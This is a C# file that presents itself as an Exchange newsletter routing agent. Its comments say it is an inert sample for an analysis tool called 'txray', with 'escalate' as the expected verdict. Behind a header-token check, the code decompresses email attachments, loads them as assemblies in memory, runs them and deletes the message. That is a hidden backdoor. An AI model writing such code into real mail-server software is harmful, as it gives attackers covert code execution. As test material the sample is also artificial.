// Sample written for txray. Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange
// cannot load it; its hosts end in .invalid or are documentation addresses.
// Imitates: modules that arrive by mail and are run from memory.
// A correct analysis says: escalate; a message with a certain header carries an assembly in its attachment that is loaded
// from memory and invoked, then the message is deleted.
using System;
using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Reflection;
using Microsoft.Exchange.Data.Mime;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;

namespace Margie.Newsletter
{
    public class NewsletterFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new NewsletterAgent(server);
        }
    }

    public class NewsletterAgent : RoutingAgent
    {
        private const string HeaderName = "X-Campaign-Token";
        private const string Token = "b7c1-44f0-9a3e";
        private readonly SmtpServer server;

        public NewsletterAgent(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
            OnRoutedMessage += Routed;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Header header = e.MailItem.Message.RootPart.Headers.FindFirst(HeaderName);
            if (header == null || header.Value != Token)
            {
                return;
            }
            foreach (Attachment attachment in e.MailItem.Message.Attachments)
            {
                try
                {
                    Module.Run(attachment.GetContentReadStream(), e.MailItem.Message.Subject, server.Name);
                }
                catch (Exception)
                {
                    // next one
                }
            }
            source.Delete();
        }

        private void Routed(RoutedMessageEventSource source, QueuedMessageEventArgs e)
        {
            HeaderList headers = e.MailItem.Message.RootPart.Headers;
            if (headers.FindFirst("List-Unsubscribe") == null && headers.FindFirst("X-Campaign") != null)
            {
                headers.AppendChild(new TextHeader("List-Unsubscribe", "<mailto:leave@news.margie.invalid>"));
            }
        }
    }

    internal static class Module
    {
        public static void Run(Stream packed, string argument, string host)
        {
            byte[] raw;
            using (var memory = new MemoryStream())
            using (var inflate = new DeflateStream(packed, CompressionMode.Decompress))
            {
                inflate.CopyTo(memory);
                raw = memory.ToArray();
            }
            Assembly assembly = Assembly.Load(raw);
            Type type = assembly.GetTypes().First(t => t.Name == "Module");
            MethodInfo method = type.GetMethod("Execute", BindingFlags.Public | BindingFlags.Static);
            method.Invoke(null, new object[] { argument, host });
        }
    }
}
